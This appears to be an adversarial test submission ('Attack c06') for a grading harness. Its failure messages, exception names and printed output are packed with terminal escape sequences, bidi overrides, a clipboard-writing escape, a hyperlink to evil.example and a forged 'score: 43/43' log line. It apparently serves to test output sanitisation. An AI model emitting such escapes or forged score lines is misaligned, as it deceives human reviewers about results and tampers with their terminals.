"""Attack c06 (issue 11, finding 7): test-case failure messages and printed output full of
terminal escapes, bidi overrides and forged log lines. scale and load_numbers are correct."""

import numpy as np

EVIL = "\x1b]0;PWNED-TITLE\x07\x1b[2J\u202eDESREVER\u2066\r\nscore:      43/43\n\x1b]52;c;UFdORUQ=\x07"


def add(a, b):
    print("printed" + EVIL)
    raise ValueError("raised" + EVIL)


def safe_div(a, b):
    raise type("\x1b[31mRed\x1b[0mError", (Exception,), {})(EVIL)


def scale(x, k):
    return np.asarray(x, dtype=float) * k


def load_numbers(path):
    print("\x1b[?1049h\x1b]8;;http://evil.example\x07link\x1b]8;;\x07")
    return np.loadtxt(path, dtype=float).reshape(-1)
